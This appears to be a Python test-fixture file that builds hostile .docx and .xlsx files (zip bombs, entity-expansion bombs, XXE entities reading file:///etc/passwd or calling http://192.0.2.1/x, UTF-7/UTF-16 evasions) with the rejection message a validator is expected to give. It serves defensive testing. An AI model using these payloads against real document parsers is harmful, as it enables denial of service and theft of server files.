"""Word and Excel files that grow when they are opened, and those that reach for other files."""

from __future__ import annotations

from tests.documents.making_files import (
    MEGABYTE,
    SHEETS,
    STRINGS,
    WORD,
    Bad,
    bomb,
    docx,
    nested_zips,
    noise,
    overlapping,
    paragraph,
    patched,
    word_xml,
    xlsx,
)

ENTITIES = "the file defines text of its own (entities), which no Word or Excel file needs and attacks use"
DAMAGED = "the file is damaged: "
LARGE = "the file is too large inside: "

BOMBS: dict[str, Bad] = {
    "a zip bomb": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph("a" * 40 * MEGABYTE))}),
        problem=LARGE + f"{WORD} grows to more than 200 times its size",
    ),
    "a zip bomb in a picture": Bad(
        suffix=".docx",
        make=lambda: docx({"word/media/image1.bmp": bytes(40 * MEGABYTE)}),
        problem=LARGE + "word/media/image1.bmp grows to more than 200 times its size",
    ),
    "a zip bomb that says it is small": Bad(
        suffix=".docx",
        make=lambda: patched(docx({WORD: word_xml(paragraph("a" * 40 * MEGABYTE))}), WORD, size=1000),
        problem=LARGE + f"{WORD} grows to more than 200 times its size",
    ),
    "a part a little longer than it says": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, size=1000),
        problem=DAMAGED + f"the part {WORD} is not as long as the file says",
    ),
    "a zip that says it is enormous": Bad(
        suffix=".docx",
        make=lambda: patched(docx(), WORD, size=0xFFFFFFF0),
        problem=LARGE + "it grows to more than 200 MB",
    ),
    "a zip of zips": Bad(
        suffix=".docx",
        make=nested_zips,
        problem="this is a zip file without a document in it, not a Word document",
    ),
    "parts on top of one another": Bad(
        suffix=".docx", make=overlapping, problem=LARGE + "parts inside lie on top of one another"
    ),
    "three thousand parts": Bad(
        suffix=".docx",
        make=lambda: docx({f"word/p{at}.xml": b"<a/>" for at in range(3000)}),
        problem=LARGE + "it has 3,011 parts inside",
    ),
    "a text of 25 MB in Word": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph(noise(25 * MEGABYTE)))}, level=1),
        problem=LARGE + f"the text in {WORD} is far longer than an action plan",
    ),
    "an entity bomb": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: word_xml(paragraph("&a9;"), bomb())}),
        problem=ENTITIES,
        place=WORD,
    ),
    "an entity bomb of one long entity": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(paragraph("&a;" * 50_000), f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>')}
        ),
        problem=ENTITIES,
        place=WORD,
    ),
    "an entity bomb in a workbook": Bad(
        suffix=".xlsx",
        make=lambda: xlsx(
            {
                STRINGS: f'<?xml version="1.0"?>{bomb()}<sst xmlns="{SHEETS}"><si><t>&a9;</t></si></sst>'.encode()
            }
        ),
        problem=ENTITIES,
        place=STRINGS,
    ),
    "an entity that is a file of the server": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(paragraph("&a;"), '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')}
        ),
        problem=ENTITIES,
        place=WORD,
    ),
    "an entity on the network": Bad(
        suffix=".xlsx",
        make=lambda: xlsx(
            {
                "xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/x">]><workbook>&a;</workbook>'
            }
        ),
        problem=ENTITIES,
        place="xl/workbook.xml",
    ),
    "an entity for parameters": Bad(
        suffix=".docx",
        make=lambda: docx(
            {"word/styles.xml": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]><x/>'}
        ),
        problem=ENTITIES,
        place="word/styles.xml",
    ),
    "an entity in the properties": Bad(
        suffix=".docx",
        make=lambda: docx({"docProps/core.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        problem=ENTITIES,
        place="docProps/core.xml",
    ),
    "an entity hidden by UTF-16": Bad(
        suffix=".docx",
        make=lambda: docx(
            {WORD: word_xml(paragraph("&a9;"), bomb()).decode().replace("UTF-8", "UTF-16").encode("utf-16")}
        ),
        problem=DAMAGED + f"the part {WORD} is not written in UTF-8",
    ),
    "an entity hidden by UTF-7": Bad(
        suffix=".docx",
        make=lambda: docx({WORD: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'}),
        problem=DAMAGED + f"the part {WORD} is not written in UTF-8",
    ),
}
